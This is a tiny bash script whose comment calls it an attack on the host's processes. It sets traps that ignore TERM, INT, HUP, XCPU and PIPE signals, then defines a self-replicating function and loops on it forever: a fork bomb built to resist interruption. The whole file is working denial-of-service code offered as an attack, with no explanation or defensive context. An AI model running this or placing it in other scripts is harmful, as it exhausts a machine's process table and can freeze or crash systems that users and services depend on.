#!/bin/bash
# Attacks: the host's processes: the shortest bomb there is, deaf to signals.
trap '' TERM INT HUP XCPU PIPE
:() { : | : & }
while true; do :; done
